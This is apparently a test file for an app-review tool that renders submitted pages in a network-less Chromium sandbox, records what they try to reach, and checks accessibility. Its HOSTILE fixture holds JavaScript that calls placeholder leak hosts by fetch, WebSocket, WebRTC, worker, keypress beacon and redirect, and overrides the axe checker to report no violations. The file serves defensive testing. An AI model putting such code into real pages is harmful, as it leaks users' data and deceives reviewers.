"""What a curator's check finds out about an app's page: a real Chromium in a sandbox without a network looks at it."""
import json
import os
import shutil
import tempfile

from tests import harness
from tests.harness import SEED

REFUSED = 8

# Nobody's data gets out of it, but it tries: by the page, a worker, WebRTC, another window, another server of this machine,
# when a key is pressed, and by leaving. What it says of itself to whoever asks in its own world is not true.
HOSTILE = {
    "index.html": """<!doctype html><html><head><meta charset="utf-8"><script src="app.js" defer></script></head>
<body><h1>Notes</h1><img src="dot.svg"><input type="text"><p style="color:#bbb;background:#ccc">hard to read</p>
<button id="leave"></button></body></html>""",
    "app.js": """Object.defineProperty(globalThis, 'axe', { value: { run: async () => ({ violations: [], testEngine: {} }) } });
fetch('http://fetch.leak.example/?secret').catch(() => 0);
fetch('http://127.0.0.1:9/neighbour').catch(() => 0);
window.open('http://window.leak.example/');
new WebSocket('ws://socket.leak.example/');
new Image().src = 'http://image.leak.example/x.png';
new Worker('worker.js');
const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:rtc.leak.example:3478' }] });
peer.createDataChannel('x');
peer.createOffer().then((offer) => peer.setLocalDescription(offer));
document.querySelector('input').addEventListener('keydown', () => navigator.sendBeacon('http://typed.leak.example/', 'x'));
document.getElementById('leave').addEventListener('click', () => { location.href = 'http://away.leak.example/'; });
""",
    "worker.js": "fetch('http://worker.leak.example/', { mode: 'no-cors' }).catch(() => 0);",
    "dot.svg": '<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8"><rect width="8" height="8"/></svg>',
}


class PageCheck(harness.TestCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.ana = cls.hub.make_writer("ana")

    def setUp(self):
        super().setUp()
        self.author = harness.Client(tempfile.mkdtemp(prefix="author-", dir=self.folder))
        self.author.add_hub(self.hub)
        self.author.environment["LOCARA_TOKEN"] = self.ana

    def submit(self, like, name, pages=None):
        """The number of a submission: an app of ours under another name, or with other pages."""
        app = self.folder / name
        shutil.copytree(SEED / "apps" / like, app)
        path = app / "locara.json"
        manifest = {**json.loads(path.read_text()), "id": f"ana/{name}"}
        path.write_text(json.dumps(manifest))
        if pages:
            root = app / manifest["entry"]["root"]
            shutil.rmtree(root)
            root.mkdir()
            for file, text in pages.items():
                (root / file).write_text(text)
        return self.author.json("publish", app, "--endpoint", self.hub.url)["submission"]["number"]

    def review(self, verb, number, *arguments, expect=0):
        return self.hub.admin("review", verb, str(number), *arguments, expect=expect)

    def page(self, number):
        return json.loads(self.review("show", number, "--json"))["report"]["page"]

    def test_our_own_apps_pass_and_what_was_not_looked_at_does_not(self):
        for like in ("quick-add", "task-form"):
            number = self.submit(like, f"own-{like}")
            self.assertFalse(self.page(number)["checked"])
            self.review("approve", number, "--by", "carol", expect=REFUSED)
            said = self.review("check", number)
            page = self.page(number)
            self.assertTrue(page["checked"], page)
            self.assertIn("reached for nothing", said)
            self.assertEqual((page["violations"], page["reach"], page["errors"], page["blank"]), ([], [], [], False), like)
            self.assertGreater(page["first_paint_ms"], 0)
            self.assertRegex(page["browser"], r"^Chromium \d+")
            self.review("approve", number, "--by", "carol")

    def test_everything_a_page_reaches_for_is_on_record(self):
        number = self.submit("quick-add", "spy", HOSTILE)
        said = self.review("check", number)
        page = self.page(number)
        self.assertTrue(page["checked"], page)
        tried = " ".join(f"{item['kind']}:{item['what']}" for item in page["reach"])
        for host in ("fetch", "socket", "image", "window", "worker", "rtc", "typed", "away"):
            self.assertIn(f"{host}.leak.example", tried)
        self.assertIn("request:http://127.0.0.1:9/neighbour", tried)
        self.assertEqual(page["reach_total"], len(page["reach"]))
        self.assertIn("webrtc:stun:rtc.leak.example", tried)
        rules = {fault["rule"]: fault["impact"] for fault in page["violations"]}
        self.assertEqual(rules.get("image-alt"), "critical")
        self.assertEqual(rules.get("color-contrast"), "serious")
        for rule in ("button-name", "label", "html-has-lang", "document-title"):
            self.assertIn(rule, rules)
        self.assertIn("nothing got out", said)
        self.assertIn("fetch.leak.example", said)
        # Each obstacle is accepted by its own word, and that is on record.
        self.review("approve", number, "--by", "carol", expect=REFUSED)
        self.review("approve", number, "--by", "carol", "--accept", "reach", expect=REFUSED)
        self.review("approve", number, "--by", "carol", "--accept", "accessibility", expect=REFUSED)
        self.review("approve", number, "--by", "carol", "--accept", "accessibility", "--accept", "reach")
        last = json.loads(self.review("show", number, "--json"))["steps"][-1]
        self.assertEqual((last["event"], last["accepted"]), ("approved", ["accessibility", "reach"]))

    def test_a_page_that_stays_empty_is_not_approved(self):
        number = self.submit("quick-add", "empty", {"index.html": "<!doctype html><html lang=en><title>Empty</title><main></main>"})
        self.review("check", number)
        self.assertTrue(self.page(number)["blank"])
        self.review("approve", number, "--by", "carol", expect=REFUSED)

    def test_without_a_browser_it_says_so(self):
        number = self.submit("task-form", "unseen")
        os.environ["LOCARA_CHROMIUM"] = "/nowhere/chromium"
        self.addCleanup(os.environ.pop, "LOCARA_CHROMIUM")
        said = self.review("check", number)
        self.assertIn("Its page was not looked at: Chromium is not installed", said)
        self.review("approve", number, "--by", "carol", expect=REFUSED)
        self.review("approve", number, "--by", "carol", "--accept", "unchecked")


if __name__ == "__main__":
    harness.main()
